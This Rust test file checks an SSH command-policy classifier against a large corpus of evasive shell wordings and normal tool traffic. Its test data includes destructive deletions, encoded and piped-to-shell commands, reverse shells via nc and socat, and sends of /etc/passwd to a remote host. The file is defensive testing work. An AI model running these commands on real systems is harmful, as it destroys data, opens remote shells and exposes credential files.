//! What is asked of a machine over SSH, wording by wording: ways around a policy, and what tools really send.

use model::{Action, Facts, Understanding};
use policy::classify::ssh::{Forward, MAX_COMMAND_BYTES, environment, exec, forward};

fn asks(facts: &Facts) -> String {
    facts.pairs.iter().map(ToString::to_string).collect::<Vec<_>>().join(", ")
}

/// Of what is asked for, all but the programs.
fn does(command: &str) -> String {
    let facts = exec(command.as_bytes());
    assert_eq!(facts.understanding, Understanding::Full, "{command}");
    let pairs = facts.pairs.iter().filter(|pair| pair.action != Action::Execute);
    pairs.map(ToString::to_string).collect::<Vec<_>>().join(", ")
}

fn unreadable(command: &str) {
    let facts = exec(command.as_bytes());
    assert!(facts.asks(Action::Unreadable) && facts.understanding != Understanding::Full, "{command}: {}", asks(&facts));
}

/// All of these remove /srv/data.
const REMOVALS: &[&str] = &[
    "rm -rf /srv/data",
    "rm -r -f -- /srv/data",
    "rm /srv/data -rf",
    "rm --recursive --force /srv/data",
    "/bin/rm -rf /srv/data",
    "/usr/bin/../bin/rm -rf /srv/data",
    "//bin///rm -rf //srv//data//",
    "\\rm -rf /srv/data",
    "r\\m -rf /srv/data",
    "'rm' -rf '/srv/data'",
    "r''m -r\"\"f /s'r'v/da\"ta\"",
    "rm -rf /srv/./x/../data/.",
    "rm -rf /srv/data/*",
    "rm -rf /srv/data/[a-z]*",
    "rm \\\n -rf \\\n /srv/data",
    "true;rm -rf /srv/data",
    "true&&rm -rf /srv/data",
    "false||rm -rf /srv/data",
    "true|rm -rf /srv/data",
    "true&rm -rf /srv/data",
    "true\nrm -rf /srv/data",
    "(rm -rf /srv/data)",
    "{ rm -rf /srv/data; }",
    "! rm -rf /srv/data",
    "if rm -rf /srv/data; then true; fi",
    "if true; then true; else rm -rf /srv/data; fi",
    "while rm -rf /srv/data; do true; done",
    "until true; do rm -rf /srv/data; done",
    "for x in 1; do rm -rf /srv/data; done",
    "case x in y) true;; *) rm -rf /srv/data; esac",
    "echo $(rm -rf /srv/data)",
    "echo `rm -rf /srv/data`",
    "echo \"$(rm -rf /srv/data)\"",
    "echo \"${x:-$(rm -rf /srv/data)}\"",
    "x=$(rm -rf /srv/data)",
    "x=1 y=`rm -rf /srv/data` true",
    "cat <(rm -rf /srv/data)",
    "true > >(rm -rf /srv/data)",
    "cat <<E\n$(rm -rf /srv/data)\nE",
    "cat <<<$(rm -rf /srv/data)",
    "case $(rm -rf /srv/data) in x) true; esac",
    "for x in $(rm -rf /srv/data); do true; done",
    "sh -c 'rm -rf /srv/data'",
    "bash -lc \"rm -rf /srv/data\"",
    "sh -e -c 'rm -rf /srv/data' x y",
    "bash --norc -o pipefail -ec 'rm -rf /srv/data'",
    "sh -c \"sh -c 'sh -c \\\"rm -rf /srv/data\\\"'\"",
    "sh <<E\nrm -rf /srv/data\nE",
    "sh <<'E'\nrm -rf /srv/data\nE",
    "bash -s <<-E\n\trm -rf /srv/data\n\tE",
    "sh <<<'rm -rf /srv/data'",
    "eval rm -rf /srv/data",
    "eval 'rm -rf' \"/srv/data\"",
    "exec rm -rf /srv/data",
    "command rm -rf /srv/data",
    "trap 'rm -rf /srv/data' EXIT",
    "env rm -rf /srv/data",
    "env -i A=b rm -rf /srv/data",
    "/usr/bin/env -u X -C /srv rm -rf data",
    "nohup rm -rf /srv/data &",
    "setsid rm -rf /srv/data",
    "nice -n 5 rm -rf /srv/data",
    "nice -5 ionice -c 3 rm -rf /srv/data",
    "timeout -s KILL 5 rm -rf /srv/data",
    "time -p rm -rf /srv/data",
    "stdbuf -oL rm -rf /srv/data",
    "sudo rm -rf /srv/data",
    "sudo -n -u root -- rm -rf /srv/data",
    "sudo A=b rm -rf /srv/data",
    "sudo -i rm -rf /srv/data",
    "sudo -s <<E\nrm -rf /srv/data\nE",
    "sudo sudo sudo rm -rf /srv/data",
    "doas rm -rf /srv/data",
    "su - root -c 'rm -rf /srv/data'",
    "runuser -u app -- rm -rf /srv/data",
    "busybox rm -rf /srv/data",
    "busybox sh -c 'rm -rf /srv/data'",
    "watch -n 1 rm -rf /srv/data",
    "flock /tmp/lock rm -rf /srv/data",
    "flock /tmp/lock -c 'rm -rf /srv/data'",
    "find /srv/data -delete",
    "find /srv/data -type f -exec rm {} \\;",
    "find /srv/data -name '*' -exec rm -rf {} +",
    "find /srv/data -execdir rm {} ';'",
    "find /srv/data -exec sudo rm {} \\;",
    "find /srv -exec rm -rf /srv/data \\;",
    "echo x | xargs sh -c 'rm -rf /srv/data'",
    "cd /srv && rm -rf data",
    "cd /srv; rm -rf data",
    "cd /srv/data && rm -rf .",
    "cd /srv/data && rm -rf *",
    "cd /srv/data/x && rm -rf ../*",
    "cd /srv || cd / ; rm -rf data",
    "(cd /tmp); cd /srv && rm -rf data",
    "pushd /srv && rm -rf data",
    "false && cd /tmp; cd /srv; rm -rf data",
    "cd /srv >/dev/null && rm -rf ./data",
    "cd / && cd srv && rm -rf data",
    "{ cd /srv; } && rm -rf data",
    "if cd /srv; then rm -rf data; fi",
    "rmdir /srv/data",
    "unlink /srv/data",
    "shred -u /srv/data",
    "truncate -s 0 /srv/data",
    "git -C /srv/data clean -fdx",
    "cd /srv/data && git reset --hard",
    "rsync --server -logDtpr --delete . /srv/data",
    "zip -qrm /tmp/x.zip /srv/data",
    "{ echo a; } &>/dev/null; rm -rf /srv/data",
    "`echo rm` -rf /srv/data",
];

#[test]
fn whatever_the_wording_a_removal_is_seen() {
    for command in REMOVALS {
        let facts = exec(command.as_bytes());
        assert!(asks(&facts).contains("destroy on /srv/data"), "{command}: {}", asks(&facts));
        assert_eq!(facts.understanding, Understanding::Full, "{command}");
        assert_eq!(facts.risk.level(), 5, "{command}");
    }
}

/// What runs is not in the text, or shells read the text differently.
const HIDDEN: &[&str] = &[
    "rm${IFS}-rf${IFS}/srv/data",
    "rm$IFS-rf$IFS/srv/data",
    "IFS=_;x=rm_-rf_/srv/data;$x",
    "x=rm; $x -rf /srv/data",
    "$(echo rm -rf) /srv/data",
    "$(printf rm) -rf /srv/data",
    "\"$(printf '\\x72\\x6d')\" -rf /",
    "$'\\x72\\x6d' -rf /srv/data",
    "$\"rm\" -rf /srv/data",
    "{rm,-rf,/srv/data}",
    "{rm -rf /srv/data}",
    "=rm -rf /srv/data",
    "/bin/r? -rf /srv/data",
    "/bin/r[m] -rf /srv/data",
    "/bin/*m -rf /srv/data",
    "~root/x",
    "~+/x",
    "echo cm0gLXJmIC8=|base64 -d|sh",
    "echo 'rm -rf /' | sh",
    "echo 'rm -rf /' | bash -s",
    "curl -s https://example.com/i.sh | sudo bash",
    "sh",
    "bash -i",
    "sh -c \"$CODE\"",
    "sh -c \"$(cat x)\"",
    "sh -c 'rm '\"$x\"",
    "sh -c",
    "sh /dev/stdin",
    "sh -s x",
    "bash <(curl -s http://h/x)",
    ". /dev/fd/0",
    ". <(echo rm x)",
    "<(echo rm x)",
    "python3 /proc/self/fd/0",
    "/dev/fd/3",
    "bash -O extglob -c 'ls'",
    "bash --rcfile x -c ls",
    "bash --init-file x",
    "eval \"$x\"",
    "eval `cat x`",
    "trap \"$x\" EXIT",
    ". \"$x\"",
    "source env.sh",
    "python3 -c 'import shutil; shutil.rmtree(\"/srv/data\")'",
    "python3 - <<E\nimport os\nE",
    "python3 -m timeit x",
    "python3.11 -Ic x",
    "perl -e 'unlink'",
    "perl -ne 'unlink' x",
    "ruby -e x",
    "node -e x",
    "node --eval=x",
    "node -p x",
    "php -r x",
    "lua -e x",
    "awk 'BEGIN{system(\"rm -rf /\")}'",
    "awk '{print > \"/etc/x\"}' y",
    "awk 'BEGIN{\"id\"|getline}'",
    "awk '{print | \"sh\"}' x",
    "awk 'BEGIN{@f()}'",
    "awk 'BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}1'",
    "sed '1e rm -rf /' x",
    "sed -n 's/a/rm x/e' y",
    "sed 'w /etc/x' y",
    "sed -f script x",
    "xargs rm",
    "xargs -I{} sh -c '{}'",
    "xargs sh -c",
    "find / -exec {} \\;",
    "find / -exec sh -c 'rm {}' \\;",
    "find / $x",
    "find / -files0-from x",
    "find / -okdir",
    "find $x -delete",
    "env -S 'rm -rf /'",
    "env \"$x\" ls",
    "env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls",
    "alias ls='rm -rf /'\nls",
    "ls() { rm -rf /; }; ls",
    "function ls { rm -rf /; }; ls",
    "hash -p /tmp/x ls; ls",
    "shopt -s expand_aliases",
    "enable -f x.so y",
    "set -k",
    "declare -n x=PATH; x=/tmp",
    "printf -v PATH x",
    "printf -v 'a[$(rm x)]' x",
    "printf $x",
    "read \"$x\"",
    "export \"$x\"",
    "export 'a[$(rm x)]=1'",
    "unset \"$x\"",
    "HOME=/srv; rm -rf ~/data",
    "CDPATH=/srv; cd data && rm x",
    "x='a[$(rm y)]'; echo $((x))",
    "x='$(rm y)'; echo ${x@P}",
    "[[ 'a[$(rm x)]' -eq 1 ]]",
    "[ -v 'a[$(rm x)]' ]",
    "[ $x ]",
    "test -v \"$x\"",
    "let 'a[$(rm x)]'",
    "((a[$(rm x)]))",
    "repeat 2 rm x",
    "noglob rm x",
    "builtin eval rm x",
    "PA\\\nTH=/tmp ls",
    "ls *(e:'rm x':)",
    "a &>b rm x",
    "é\\; ls",
    "ls\u{a0}-la",
    "sudo",
    "sudo -i",
    "sudo -e /etc/x",
    "sudo -R /x ls",
    "su - root",
    "su root script.sh",
    "doas -s",
    "busybox --install",
    "chroot /x ls",
    "unshare -r ls",
    "nsenter -t 1 -m ls",
    "parallel rm ::: x",
    "script -c 'rm x'",
    "systemd-run rm x",
    "strace rm x",
    "ld.so /bin/rm x",
    "gdb -ex '!rm x'",
    "vim -c ':!rm x'",
    "ed x",
    "less +'!rm x' y",
    "ip netns exec a rm x",
    "tar cf x --to-command=sh y",
    "tar cf x --checkpoint=1 --checkpoint-action=exec=sh y",
    "tar cf x *",
    "tar xPf x",
    "tar -I sh -xf x",
    "tar cf host:x y",
    "tar c -T list",
    "rsync -e 'sh -c x' a b",
    "rsync --server --sender -slogDtpre.iLsf",
    "rsync --server --daemon .",
    "scp -S sh a b:c",
    "scp -o ProxyCommand=sh a b:c",
    "ssh -o ProxyCommand='rm x' h",
    "git -c core.sshCommand='rm x' fetch",
    "git fetch ext::sh",
    "git upload-pack --upload-pack=x y",
    "git clone -u 'rm x' y",
    "git rebase -x 'rm x'",
    "git bisect run rm x",
    "git submodule foreach 'rm x'",
    "git config alias.x '!rm x'",
    "curl -K x",
    "curl \"$x\"",
    "curl file:///etc/passwd -o \"$x\"",
    "wget -i x",
    "wget --use-askpass=sh h",
    "nc -e /bin/sh h 80",
    "socat TCP:h:80 EXEC:sh",
    "mosh-server new",
    "at now",
    "crontab x",
    "crontab -",
    "docker run -v /:/x alpine",
    "docker exec x sh",
    "kubectl exec x -- sh",
    "npx x",
    "npm exec x",
    "apt-get -o APT::Update::Pre-Invoke::=sh update",
    "rpm --eval '%(rm x)'",
    "systemctl -H h status",
    "systemctl edit x",
    "sort --compress-program=sh x",
    "split --filter=sh x",
    "grep --pre=sh x y",
    "rm \"$x\"",
    "rm $(cat x)",
    "rm -rf /srv/$x",
    "rm -rf /srv/.*",
    "rm -rf /srv/*/../../etc",
    "rm ../x",
    "cat ~bob/x",
    "cat <$x",
    "echo >$x",
    "cd \"$x\" && rm -rf y",
    "cd - && rm y",
    "popd && rm y",
    "while true; do cd ..; rm x; done",
    "sudo sh -c 'cat ~/x'",
    "sudo -i sh -c 'rm x'",
    "sftp-server",
    "a\0b",
    "'",
    "ls (",
    "\\",
    "fish -c ls",
    "dash -c \"$(printf 'rm x')\"",
    "exec -a x rm y",
    "exec \"$x\"",
    "command \"$x\"",
    "time \"$x\"",
    "time PATH=/tmp ls",
    "time -p LD_PRELOAD=x ls",
    "nohup $x",
    "timeout 5 $x",
    "$x",
    "\"\"",
    "''",
];

#[test]
fn what_does_not_say_what_runs_is_unreadable() {
    for command in HIDDEN {
        unreadable(command);
    }
}

/// What tools and scripts send, and what it does beside running programs.
const UNDERSTOOD: &[(&str, &str)] = &[
    // Ansible.
    ("/bin/sh -c 'echo ~alice && sleep 0'", ""),
    (
        "/bin/sh -c '( umask 77 && mkdir -p \"` echo ~/.ansible/tmp `\"&& mkdir \"` echo ~/.ansible/tmp/ansible-tmp-1-2-3 `\" && echo ansible-tmp-1=\"` echo ~/.ansible/tmp/ansible-tmp-1 `\" ) && sleep 0'",
        "write on ~/.ansible/tmp, write on ~/.ansible/tmp/ansible-tmp-1-2-3",
    ),
    (
        "/bin/sh -c 'echo PLATFORM; uname; echo FOUND; command -v '\"'\"'python3.12'\"'\"'; command -v '\"'\"'python3'\"'\"'; echo ENDFOUND && sleep 0'",
        "",
    ),
    ("/bin/sh -c '/usr/bin/python3 ~/.ansible/tmp/ansible-tmp-1/AnsiballZ_ping.py && sleep 0'", ""),
    ("/bin/sh -c 'chmod u+rwx ~/.ansible/tmp/a/ ~/.ansible/tmp/a/x.py && sleep 0'", "write on ~/.ansible/tmp/a, write on ~/.ansible/tmp/a/x.py"),
    ("/bin/sh -c 'rm -f -r ~/.ansible/tmp/a/ > /dev/null 2>&1 && sleep 0'", "destroy on ~/.ansible/tmp/a"),
    (
        "/bin/sh -c 'sudo -H -S -n  -u root /bin/sh -c '\"'\"'echo BECOME-SUCCESS-x ; /usr/bin/python3 /tmp/x.py'\"'\"' && sleep 0'",
        "privilege on program sudo",
    ),
    ("/bin/sh -c 'LANG=C LC_ALL=C /usr/bin/python3 /tmp/x.py && sleep 0'", ""),
    // scp, rsync, git.
    ("scp -t /srv/in", "write on /srv/in"),
    ("scp -r -p -d -t -- /srv/in", "write on /srv/in"),
    ("scp -f /etc/shadow", "read on /etc/shadow"),
    ("scp -r -f /srv", "read on /srv, export on /srv"),
    ("scp -f x/*", "read on ~/x"),
    ("rsync --server -vlogDtpre.iLsfxCIvu . /srv/in/", "write on /srv/in"),
    ("rsync --server --sender -vlogDtpre.iLsfxCIvu . /srv/out", "read on /srv/out, export on /srv/out"),
    ("rsync --server --sender -vlogDtpe.iLsfxCIvu . a b", "read on ~/a, read on ~/b"),
    ("rsync --server -logDtpre.iLsfxCIvu --partial --timeout=5 --bwlimit=100 --link-dest=/srv/old . /srv/new", "read on /srv/old, write on /srv/new"),
    ("rsync --server --sender -logDtpre.LsfxCIvu .", "read on ~, export on ~"),
    ("git-upload-pack '/srv/git/x.git'", "read on /srv/git/x.git, export on /srv/git/x.git"),
    ("git-receive-pack 'x.git'", "read on ~/x.git, write on ~/x.git"),
    ("git upload-pack --strict --timeout=0 /srv/x", "read on /srv/x, export on /srv/x"),
    ("git-upload-archive /srv/x", "read on /srv/x, export on /srv/x"),
    // Deploying.
    (
        "cd /srv/app && git pull --ff-only && npm ci && systemctl restart app",
        "read on /srv/app, write on /srv/app, define on program npm, define on program systemctl, escape on the connection",
    ),
    (
        "set -euo pipefail; cd /srv/app || exit 1; tar -xzf /tmp/r.tgz; ln -sfn /srv/r5 current",
        "read on /srv/r5, read on /tmp/r.tgz, write on /srv/app, write on /srv/app/current, write on /srv/r5",
    ),
    ("mkdir -p /srv/app/releases/5 && tar xzf - -C /srv/app/releases/5", "write on /srv/app/releases/5"),
    (
        "cat > /tmp/x.conf && sudo install -m 0644 /tmp/x.conf /etc/x.conf",
        "read on /tmp/x.conf, write on /etc/x.conf, write on /tmp/x.conf, privilege on program sudo",
    ),
    ("sudo systemctl daemon-reload && sudo systemctl restart nginx", "define on program systemctl, privilege on program sudo"),
    ("DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends nginx", "define on program apt-get"),
    ("docker ps -a --format '{{.Names}}'", ""),
    ("kubectl get pods -n web -o json", ""),
    ("for h in a b; do echo \"$h\"; done", ""),
    ("if [ -d /srv/app ]; then ls /srv/app; else mkdir /srv/app; fi", "read on /srv/app, write on /srv/app"),
    ("while read -r line; do echo \"$line\"; done < /etc/hosts", "read on /etc/hosts"),
    ("cat <<'EOF' > /etc/motd\nhello $USER\nEOF", "write on /etc/motd"),
    ("bash -s < /srv/x.sh", "read on /srv/x.sh"),
    ("./deploy.sh production", ""),
    ("cd /srv/app && ./deploy.sh 2>&1 | tee -a deploy.log", "write on /srv/app/deploy.log"),
    // Looking.
    ("uptime", ""),
    ("true", ""),
    ("", "connect on the connection"),
    ("id; whoami; uname -a; date; df -h; ps aux | grep nginx | wc -l", ""),
    ("hostname -f", ""),
    ("ls -la --color=auto /srv", "read on /srv"),
    ("ls", "read on ~"),
    ("cat /etc/os-release 2>/dev/null || true", "read on /etc/os-release"),
    ("tail -n 100 -f /var/log/syslog | grep --line-buffered error", "read on /var/log/syslog"),
    ("head -20 x | sort | uniq -c | sort -rn", "read on ~/x"),
    ("awk -F: '{print $1}' /etc/passwd", "read on /etc/passwd"),
    ("awk '$3 >= 1000 || /x/ {n++} END {print n}' /etc/passwd", "read on /etc/passwd"),
    ("sed -n '1,5p' /etc/hosts", "read on /etc/hosts"),
    ("sed -i.bak 's/a/b/g' /etc/x", "read on /etc/x, write on /etc/x, write on /etc/x.bak"),
    ("grep -rn pattern /srv /etc", "read on /etc, read on /srv"),
    ("find /var/log -name '*.gz' -mtime +30 -print", "read on /var/log"),
    ("find /var/log -name '*.gz' -exec ls -l {} +", "read on /var/log"),
    ("systemctl status nginx --no-pager", ""),
    ("journalctl -u nginx -n 50 --no-pager", ""),
    ("crontab -l", ""),
    ("test -f /srv/x && echo yes || echo no", ""),
    ("base64 secrets", "read on ~/secrets"),
    ("echo \"$HOME\" ${USER} $(hostname) `date +%s`", ""),
    ("cat \"$HOME/x\" ~/y", "read on ~/x, read on ~/y"),
    ("stat -c %s /srv/x", "read on /srv/x"),
    ("du -sh /srv/*", "read on /srv"),
    ("sha256sum /srv/x", "read on /srv/x"),
    ("python3 --version; node -v; git --version", ""),
    ("sleep 5 & wait", ""),
    ("dpkg -l; rpm -qa; apt list --installed", ""),
    // Writing.
    ("echo x > /srv/f", "write on /srv/f"),
    ("echo x >> ~/f 2>/dev/null", "write on ~/f"),
    (": > /var/log/x", "write on /var/log/x"),
    ("exec 2>/tmp/log", "write on /tmp/log"),
    ("cp -a /srv/a /srv/b", "read on /srv/a, write on /srv/b"),
    ("mv /srv/a /srv/b", "read on /srv/a, write on /srv/a, write on /srv/b"),
    ("touch x && chmod 0600 x && chown root:root x", "write on ~/x"),
    ("chmod 4755 /srv/x", "write on /srv/x, privilege on /srv/x"),
    ("chmod -x /srv/x", "write on /srv/x"),
    (
        "ln -s ../shared/log /srv/app/log",
        "read on /srv/app/shared/log, read on /srv/shared/log, write on /srv/app/log, write on /srv/app/shared/log, write on /srv/shared/log",
    ),
    ("dd if=/srv/a of=/srv/b bs=1M status=none", "read on /srv/a, write on /srv/b"),
    ("dd if=/srv/a of=/dev/sda", "read on /srv/a, destroy on /dev/sda"),
    ("cat x > /dev/sda", "read on ~/x, destroy on /dev/sda"),
    ("mkfs.ext4 -F /dev/sdb1", "destroy on /dev/sdb1"),
    ("tar czf - /srv", "read on /srv, export on /srv"),
    ("tar czf /tmp/x.tgz -C /srv data", "read on /srv/data, write on /tmp/x.tgz"),
    ("kill -9 123", "write on program kill"),
    ("shutdown -r now", "destroy on program shutdown"),
    ("iptables -F", "define on program iptables, configure on program iptables"),
    ("useradd -m bob", "privilege on program useradd"),
    ("PATH=/tmp:$PATH ls /", "read on /, configure on the connection"),
    ("LD_PRELOAD=x true", "configure on the connection"),
    ("IFS=, ; true", "configure on the connection"),
    ("while IFS= read -r x; do true; done </etc/hosts", "read on /etc/hosts, configure on the connection"),
    ("export BASH_ENV=/tmp/x", "configure on the connection"),
    ("env GIT_SSH=x true", "configure on the connection"),
    // Elsewhere.
    ("curl -fsSL https://example.com/x -o /tmp/x", "write on /tmp/x, escape on host example.com:443"),
    ("curl -d @/etc/passwd http://h:8080/", "read on /etc/passwd, escape on host h:8080"),
    ("wget -q -O- http://h/", "escape on host h:80"),
    ("ssh -p 2222 bob@h ls", "escape on host h:2222"),
    ("scp x bob@h:y", "read on ~/x, escape on host h:22"),
    ("rsync -az /srv/ h:/srv/", "read on /srv, escape on host h:22"),
    ("nc -z h 5432", "escape on host h:5432"),
    ("git clone https://h/r.git /srv/r", "read on ~, write on /srv/r, write on ~, escape on host h:443"),
    ("exec 3<>/dev/tcp/h/80", "escape on host h:80"),
    ("ping -c 1 10.1", "escape on host 10.0.0.1:0"),
];

#[test]
fn what_tools_really_send_is_understood() {
    for (command, expected) in UNDERSTOOD {
        assert_eq!(does(command), *expected, "{command}");
    }
}

#[test]
fn programs_are_known_by_name_in_the_systems_directories_and_by_path_elsewhere() {
    for (command, expected) in [
        ("/usr/bin/whoami", "execute on program whoami"),
        ("/usr/local/sbin/../bin/whoami", "execute on program whoami"),
        ("/tmp/whoami", "execute on program /tmp/whoami"),
        ("./x.sh", "execute on program ~/x.sh"),
        ("~/bin/x --any $thing", "execute on program ~/bin/x"),
        ("cd /srv && ./x", "execute on program /srv/x, execute on program cd"),
        ("frobnicate $(whoami)", "execute on program frobnicate, execute on program whoami"),
        ("/opt/bin/rm /x", "destroy on /x, execute on program /opt/bin/rm"),
        ("python3.12 /srv/x.py", "execute on program /srv/x.py, execute on program python3.12"),
    ] {
        assert_eq!(asks(&exec(command.as_bytes())), expected, "{command}");
    }
}

/// The `ssh` cases of the corpus of evasions that are about facts, by their numbers.
#[test]
fn the_corpus_of_evasions() {
    unreadable("echo cm0gLXJmIC8=|base64 -d|sh"); // SSH-005
    unreadable("$(printf '\\x72\\x6d') -rf /"); // SSH-006, should the far shell see it
    unreadable("rm${IFS}-rf${IFS}/"); // SSH-007
    unreadable("alias ls=\"rm -rf /\"; ls"); // SSH-012
    assert_eq!(does("base64 secrets"), "read on ~/secrets"); // SSH-018
    assert_eq!(does("cat pii >&2"), "read on ~/pii"); // SSH-019
    assert_eq!(does("scp -f /etc/shadow"), "read on /etc/shadow"); // SSH-021
    assert_eq!(asks(&forward(&Forward::Direct { host: "db", port: 5432 })), "escape on host db:5432"); // SSH-027
    assert_eq!(asks(&forward(&Forward::Listen { host: "0.0.0.0", port: 0 })), "escape on host listen:0.0.0.0:0"); // SSH-028
    assert_eq!(asks(&forward(&Forward::Tun)), "escape on host tun"); // SSH-030
    for name in ["LD_PRELOAD", "BASH_ENV", "GIT_SSH_COMMAND"] {
        assert_eq!(asks(&environment(name)), "configure on the connection"); // SSH-033
    }
    assert_eq!(does("rm -rf /"), "destroy on /"); // SSH-034
    unreadable("mosh-server new -s"); // SSH-048
}

#[test]
fn statements_are_counted_and_secrets_are_where_they_stand() {
    let facts = exec(b"a; b && c | d $(e); sh -c 'f'; for x in 1 2; do cd ..; g; done");
    assert_eq!((facts.statements, facts.kinds.len()), (9, 1));
    let command = "PGPASSWORD=hunter2 psql -c 'select 1'";
    assert_eq!(exec(command.as_bytes()).secret_spans, [(11, 18)]);
    let unread = "PGPASSWORD=hunter2 'psql";
    assert_eq!(exec(unread.as_bytes()).secret_spans, [(11, 18)], "what is not understood is recorded too");
}

#[test]
fn hostile_commands_are_bounded_in_depth_work_and_size() {
    assert!(exec("a;".repeat(MAX_COMMAND_BYTES / 2).as_bytes()).asks(Action::Execute));
    unreadable(&"a".repeat(MAX_COMMAND_BYTES + 1));
    assert!(exec(b"\xff\xfe").asks(Action::Unreadable));
    for shape in [
        "sudo ",
        "sh -c '",
        "env ",
        "nice ",
        "eval ",
        "(",
        "$(",
        "\"$(",
        "{ ",
        "if ",
        "while ",
        "`",
        "${x:-",
        "<(",
        "time ",
        "xargs ",
        "find / -exec ",
        "cd a;",
        "cd ..;",
        "a&&",
        "a|",
        "\\",
        "{",
        "[",
        "*",
        "~",
        "=",
        "<<E\n",
        "a b=",
        "\u{e9}",
    ] {
        let command: String = shape.repeat(MAX_COMMAND_BYTES / shape.len());
        assert!(exec(command.as_bytes()).pairs.len() <= 513, "{shape}");
    }
    // Each loop is walked twice where its body moves.
    let loops = |levels: usize| format!("{}cd x{}", "while cd y; do ".repeat(levels), "; done".repeat(levels));
    assert!(exec(loops(60).as_bytes()).statements <= 61);
    let finds = |levels: usize| format!("{}ls{}", "find a b c -exec ".repeat(levels), " ;".repeat(levels).replace(';', "\\;"));
    unreadable(&finds(40));
    let quoted = (0..12).fold("rm -rf /srv/data".to_owned(), |text, _| format!("sh -c '{}'", text.replace('\'', "'\\''")));
    assert!(asks(&exec(quoted.as_bytes())).contains("destroy on /srv/data") || quoted.len() > MAX_COMMAND_BYTES, "{}", quoted.len());
}
